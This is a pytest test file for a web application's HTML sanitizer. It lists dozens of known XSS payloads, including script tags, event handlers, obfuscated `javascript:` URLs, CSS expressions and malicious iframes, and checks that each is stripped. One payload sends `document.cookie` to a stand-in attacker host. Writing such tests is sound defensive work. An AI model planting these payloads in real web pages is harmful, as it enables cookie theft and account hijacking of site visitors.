"""apps.core.html.sanitize_html: known XSS payloads never survive; editor formatting does."""
from __future__ import annotations

from html.parser import HTMLParser

import pytest

from apps.core.html import ALLOWED_TAGS, sanitize_html

XSS_CORPUS = [
    # script elements, plain and disguised
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1);//<</script>",
    '<script type="text/javascript">document.cookie</script>',
    "<p>ok</p><script>fetch('https://evil.example/?c='+document.cookie)</script>",
    # event handlers
    "<img src=x onerror=alert(1)>",
    '<img src="x" onerror="alert(String.fromCharCode(88,83,83))">',
    "<IMG SRC=/ onerror=\"alert(1)\"></img>",
    '<body onload="alert(1)">',
    '<p onmouseover="alert(1)">hover</p>',
    '<div onclick="alert(1)" style="color:red">click</div>',
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=\"alert(1)\"></video>",
    "<marquee onstart=alert(1)>x</marquee>",
    # svg and math
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    # javascript:, data:, vbscript: URLs, with encodings
    '<a href="javascript:alert(1)">link</a>',
    '<a href="JaVaScRiPt:alert(1)">link</a>',
    '<a href="  javascript:alert(1)">link</a>',
    '<a href="jav&#x09;ascript:alert(1)">link</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">link</a>',
    '<a href="&#x6A;avascript:alert(1)">link</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">link</a>',
    '<img src="javascript:alert(1)">',
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '<a href="vbscript:msgbox(1)">link</a>',
    '<form action="javascript:alert(1)"><button>go</button></form>',
    # style expressions and CSS tricks
    '<p style="color: expression(alert(1))">x</p>',
    '<span style="background-color: url(javascript:alert(1))">x</span>',
    '<p style="color:red;behavior:url(xss.htc)">x</p>',
    '<div style="width: expression(alert(1)); text-align: center">x</div>',
    '<p style="color: \\65 xpression(alert(1))">x</p>',
    "<style>body{background:url(javascript:alert(1))}</style>",
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    # frames, objects, embeds, meta, base
    '<iframe src="https://evil.example/"></iframe>',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<iframe src="https://www.youtube.com.evil.example/embed/abc"></iframe>',
    '<iframe src="http://www.youtube.com/embed/abc"></iframe>',
    '<iframe src="https://www.youtube.com/embed/abc" onload="alert(1)"><img src=x onerror=alert(1)></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="https://evil.example/x.swf">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="https://evil.example/">',
    # nested / broken markup and comments
    '<a href="https://ok.example" onclick="alert(1)">ok</a>',
    "<!--<img src=x onerror=alert(1)>-->",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<p title="x"><img src="x" onerror="alert(1)"></p>',
    "<template><script>alert(1)</script></template>",
    '<textarea><img src=x onerror=alert(1)></textarea>',
]

SAFE_SCHEMES = ("http://", "https://", "mailto:", "/", "#")
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "data", "xlink:href", "background", "poster"}


class _Collector(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, list[tuple[str, str | None]]]] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, attrs))

    handle_startendtag = handle_starttag


def _parsed(html: str):
    collector = _Collector()
    collector.feed(html)
    collector.close()
    return collector.tags


def assert_harmless(html: str) -> None:
    lowered = html.lower()
    assert "<script" not in lowered
    assert "<svg" not in lowered and "<math" not in lowered
    for tag, attrs in _parsed(html):
        assert tag in ALLOWED_TAGS, f"tag {tag!r} survived in {html!r}"
        for name, value in attrs:
            value = (value or "").strip().lower()
            assert not name.startswith("on"), f"event handler {name!r} survived in {html!r}"
            assert name not in {"srcdoc", "formaction", "action", "xlink:href"}
            if name in URL_ATTRIBUTES and value:
                assert value.startswith(SAFE_SCHEMES) or ":" not in value.split("/")[0], (
                    f"unsafe URL {value!r} survived in {html!r}"
                )
            if name == "style":
                assert "expression" not in value and "url(" not in value and "\\" not in value
                assert "behavior" not in value
            if tag == "iframe" and name == "src":
                assert value.startswith(("https://www.youtube.com/embed/", "https://www.youtube-nocookie.com/embed/"))


def test_the_corpus_is_large_enough():
    assert len(XSS_CORPUS) >= 30


@pytest.mark.parametrize("payload", XSS_CORPUS)
def test_xss_payload_never_survives(payload):
    cleaned = sanitize_html(payload)
    assert_harmless(cleaned)
    # Cleaning is stable: cleaning the result again changes nothing.
    assert sanitize_html(cleaned) == cleaned


@pytest.mark.parametrize("payload", XSS_CORPUS)
def test_xss_payload_wrapped_in_formatting_never_survives(payload):
    cleaned = sanitize_html(f"<p><strong>intro</strong></p>{payload}<p>outro</p>")
    assert_harmless(cleaned)
    # Formatting around the payload is kept (an unclosed payload may swallow what follows it).
    assert cleaned.startswith("<p><strong>intro</strong></p>")


def test_event_handlers_are_dropped_but_the_element_is_kept():
    assert sanitize_html('<img src="https://cdn.example/a.png" alt="A" onerror="alert(1)">') == (
        '<img src="https://cdn.example/a.png" alt="A">'
    )


def test_javascript_link_loses_its_href_but_keeps_its_text():
    assert sanitize_html('<a href="javascript:alert(1)">read more</a>') == '<a rel="noopener noreferrer">read more</a>'


@pytest.mark.parametrize("html", [
    "<h1>Title</h1>", "<h2>Sub</h2>", "<h3>Three</h3>", "<h4>Four</h4>", "<h5>Five</h5>", "<h6>Six</h6>",
    "<p>Paragraph<br>next line</p>",
    "<ul><li>one</li><li>two</li></ul>",
    "<ol><li>first</li></ol>",
    "<p><strong>bold</strong> <b>b</b> <em>em</em> <i>i</i> <u>under</u> <s>strike</s></p>",
    "<blockquote><p>quoted</p></blockquote>",
    "<pre><code>print(1)</code></pre>",
    '<figure><img src="https://cdn.example/a.png" alt="Alt" width="640" height="480"><figcaption>Cap</figcaption></figure>',
    "<table><thead><tr><th>H</th></tr></thead><tbody><tr><td>D</td></tr></tbody></table>",
    '<p style="text-align:center">centred</p>',
    '<p style="text-align:right">right</p>',
    '<span style="color:#e53e3e">red</span>',
    '<span style="color:rgb(49, 130, 206)">blue</span>',
    '<span style="background-color:yellow">marked</span>',
    '<iframe src="https://www.youtube.com/embed/dQw4w9WgXcQ" width="560" height="315"></iframe>',
    '<iframe src="https://www.youtube-nocookie.com/embed/dQw4w9WgXcQ?start=30"></iframe>',
    '<p><a href="mailto:team@example.com" rel="noopener noreferrer">mail us</a></p>',
])
def test_editor_formatting_survives_unchanged(html):
    assert sanitize_html(html) == html


def test_links_keep_href_title_target_and_get_rel_noopener():
    cleaned = sanitize_html('<a href="https://example.com/x" title="T" target="_blank" rel="opener">x</a>')
    assert cleaned == '<a href="https://example.com/x" title="T" target="_blank" rel="noopener noreferrer">x</a>'


def test_unknown_target_values_are_dropped():
    assert 'target' not in sanitize_html('<a href="https://example.com" target="evil-frame">x</a>')


def test_style_keeps_only_colour_and_alignment():
    cleaned = sanitize_html('<p style="color: red; position: fixed; top: 0; text-align: center; font-size: 90px">x</p>')
    assert cleaned == '<p style="color:red;text-align:center">x</p>'


def test_iframe_content_is_dropped_even_from_youtube():
    cleaned = sanitize_html('<iframe src="https://www.youtube.com/embed/abc">fallback <b>text</b></iframe>')
    assert cleaned == '<iframe src="https://www.youtube.com/embed/abc"></iframe>'


def test_empty_and_plain_text():
    assert sanitize_html("") == ""
    assert sanitize_html("just text & more") == "just text &amp; more"
